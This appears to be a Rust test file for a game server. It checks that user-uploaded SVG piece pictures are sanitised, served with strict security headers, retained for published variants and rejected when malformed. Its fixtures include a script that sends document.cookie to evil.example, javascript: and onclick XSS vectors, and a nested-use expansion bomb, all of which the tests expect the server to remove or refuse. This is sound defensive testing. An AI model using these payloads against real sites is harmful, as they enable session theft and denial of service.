//! Pictures of pieces that users draw: cleaned, named by variant files, stored as long as a published game has them.

use crate::common::{Browser, TestServer};
use axum::http::{Method, StatusCode, header};
use serde_json::{Value, json};

const LAKE: &str = include_str!("../../../../testdata/variants/lake.toml");
/// An otter in a few lines, with things that no picture has.
const OTTER: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 45 45">
<script>fetch("https://evil.example/" + document.cookie)</script>
<image xlink:href="https://evil.example/a.png" width="45" height="45"/>
<a xlink:href="javascript:alert(1)"><path onclick="alert(2)" d="M5 40C5 20 15 5 30 8c6 1 9 6 6 9l-8 3 6 20z" fill="#fff" stroke="#000" stroke-width="1.5"/></a>
<circle cx="28" cy="13" r="1.5" fill="#000"/></svg>"##;

async fn account(server: &TestServer, name: &str) -> Browser {
    let mut browser = Browser::default();
    let body = json!({"name": name, "password": "a long password"});
    assert_eq!(browser.post(server, "/api/account/register", body).await.0, StatusCode::OK);
    browser
}

async fn send(server: &TestServer, browser: &mut Browser, svg: &str) -> Value {
    let (status, sent) = browser.post(server, "/api/pictures", json!({"svg": svg})).await;
    assert_eq!(status, StatusCode::CREATED, "{sent}");
    sent
}

fn with_picture(digest: &str) -> String {
    LAKE.replace("name = \"Otter\"\n", &format!("name = \"Otter\"\npicture = \"{digest}\"\n"))
}

async fn text(server: &TestServer, browser: &mut Browser, path: &str) -> String {
    let response = browser.raw(server, Method::GET, path, None).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    let bytes = axum::body::to_bytes(response.into_body(), 1 << 20).await.unwrap();
    String::from_utf8(bytes.to_vec()).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_picture_is_cleaned_and_drawn_on_every_board() {
    let server = TestServer::new().await;
    let mut ann = account(&server, "Ann").await;
    let sent = send(&server, &mut ann, OTTER).await;
    assert_eq!(sent["left_out"], json!(["a", "image", "onclick", "script"]));
    let digest = sent["digest"].as_str().unwrap();
    let path = format!("/api/pictures/{digest}");
    let response = Browser::default().raw(&server, Method::GET, &path, None).await;
    for (name, expected) in [
        (header::CONTENT_TYPE, "image/svg+xml"),
        (header::X_CONTENT_TYPE_OPTIONS, "nosniff"),
        (header::CACHE_CONTROL, "public, max-age=31536000, immutable"),
    ] {
        assert_eq!(response.headers()[&name], expected, "{name}");
    }
    let policy = response.headers()[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
    assert!(policy.starts_with("default-src 'none'") && policy.contains("sandbox"), "{policy}");
    let svg = text(&server, &mut ann, &path).await;
    assert!(
        svg.contains(&format!("id=\"{digest}-white\"")) && svg.contains(&format!("id=\"{digest}-black\""))
    );
    for word in ["script", "evil", "alert", "onclick", "href", "image"] {
        assert!(!svg.contains(word), "{word}: {svg}");
    }
    // The board has it, and so have the pictures of the start and of games.
    let source = with_picture(digest);
    let (_, found) =
        ann.post(&server, "/api/variants/validate", json!({"source": source, "board": true})).await;
    let roles = found["board"]["roles"].as_array().unwrap();
    let otter = roles.iter().find(|role| role["name"] == json!("Otter")).unwrap();
    assert_eq!(otter["glyph"], json!(digest), "{found}");
    let publication = json!({"source": source, "visibility": "unlisted"});
    let (status, published) = ann.post(&server, "/api/variants", publication).await;
    assert_eq!(status, StatusCode::CREATED, "{published}");
    let start = text(&server, &mut ann, "/api/variants/~lake/picture.svg").await;
    assert!(start.contains(&format!("w-{digest}-")), "{start}");
    let body = json!({"variant": "~lake", "opponent": {"kind": "engine", "level": 1}, "side": "white"});
    let (_, game) = ann.post(&server, "/api/games", body).await;
    let picture_path = format!("/api/games/{}/picture.svg", game["id"].as_str().unwrap());
    assert!(text(&server, &mut ann, &picture_path).await.contains(&format!("b-{digest}-")));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_published_picture_stays_and_others_can_be_deleted() {
    let server = TestServer::new().await;
    let (mut ann, mut bob) = (account(&server, "Ann").await, account(&server, "Bob").await);
    let otter = send(&server, &mut ann, OTTER).await["digest"].as_str().unwrap().to_owned();
    let other = "<svg xmlns='http://www.w3.org/2000/svg'><rect width='5' height='9'/></svg>";
    let other = send(&server, &mut ann, other).await["digest"].as_str().unwrap().to_owned();
    assert_eq!(send(&server, &mut bob, OTTER).await["digest"], json!(otter), "equal pictures are one");
    let publication = json!({"source": with_picture(&otter), "visibility": "unlisted"});
    assert_eq!(ann.post(&server, "/api/variants", publication).await.0, StatusCode::CREATED);
    let (_, own) = ann.get(&server, "/api/pictures").await;
    let published = |digest: &str| {
        let own = own.as_array().unwrap().iter().find(|own| own["digest"] == json!(digest)).unwrap();
        own["published"].clone()
    };
    assert_eq!((published(&otter), published(&other)), (json!(true), json!(false)));
    let path = |digest: &str| format!("/api/pictures/{digest}");
    let (_, of_bob) = bob.get(&server, "/api/pictures").await;
    assert_eq!(of_bob[0]["digest"], json!(otter));
    for (digest, expected) in
        [(&otter, StatusCode::NO_CONTENT), (&otter, StatusCode::NOT_FOUND), (&other, StatusCode::NO_CONTENT)]
    {
        assert_eq!(ann.request(&server, Method::DELETE, &path(digest), None).await.0, expected);
    }
    assert_eq!(bob.request(&server, Method::DELETE, &path(&otter), None).await.0, StatusCode::NO_CONTENT);
    assert_eq!(ann.get(&server, &path(&otter)).await.0, StatusCode::OK, "the published game keeps it");
    assert_eq!(ann.get(&server, &path(&other)).await.0, StatusCode::NOT_FOUND);
    // A file that names a picture which does not exist fails with its location.
    let source = with_picture(&other);
    let (_, found) = ann.post(&server, "/api/variants/validate", json!({"source": source})).await;
    let fault = &found["faults"][0];
    let line = source.lines().position(|line| line.contains(&other)).unwrap() + 1;
    assert_eq!((&found["valid"], &fault["line"]), (&json!(false), &json!(line)), "{found}");
    let length = fault["to"].as_u64().unwrap() - fault["from"].as_u64().unwrap();
    assert_eq!(length, 64);
    // After a restart, and without its inventor, the published one is still drawn.
    let proof = json!({"password": "a long password"});
    assert!(ann.post(&server, "/api/account/delete", proof).await.0.is_success());
    let server = server.restart().await;
    assert!(text(&server, &mut bob, "/api/variants/~lake/picture.svg").await.contains(&otter));
}

#[tokio::test(flavor = "multi_thread")]
async fn invalid_pictures_are_refused_with_a_reason() {
    let (server, mut guest) = (TestServer::new().await, Browser::default());
    let mut ann = account(&server, "Ann").await;
    let svg = |content: &str| format!("<svg xmlns='http://www.w3.org/2000/svg'>{content}</svg>");
    let bomb: String =
        (1..30).map(|n| format!("<g id='g{n}'><use href='#g{0}'/><use href='#g{0}'/></g>", n - 1)).collect();
    for (text, reason) in [
        (svg("<text>only words</text>"), "found none"),
        (svg(&" ".repeat(33_000)), "at most 32768 bytes"),
        (svg(&format!("<circle id='g0' r='9'/>{bomb}")), "at most 2000 elements"),
        (format!("<!DOCTYPE svg [<!ENTITY a 'aaa'>]>{}", svg("&a;")), "document type"),
        ("no picture".into(), "expected an SVG"),
        ("<html><body/></html>".into(), "found `<html>`"),
    ] {
        let (status, problem) = ann.post(&server, "/api/pictures", json!({"svg": text})).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
        assert!(problem["detail"].as_str().unwrap().contains(reason), "{reason}: {problem}");
    }
    assert_eq!(guest.post(&server, "/api/pictures", json!({"svg": OTTER})).await.0, StatusCode::UNAUTHORIZED);
    let mut statuses = Vec::new();
    for number in 0..201 {
        let shape = format!("<rect width='{}' height='100'/>", 1 + number);
        let (status, problem) = ann.post(&server, "/api/pictures", json!({"svg": svg(&shape)})).await;
        if status == StatusCode::TOO_MANY_REQUESTS {
            tokio::time::sleep(std::time::Duration::from_millis(600)).await;
            continue;
        }
        statuses.push(status);
        assert!(matches!(status, StatusCode::CREATED | StatusCode::CONFLICT), "{problem}");
    }
    assert!(statuses.len() > 60);
}
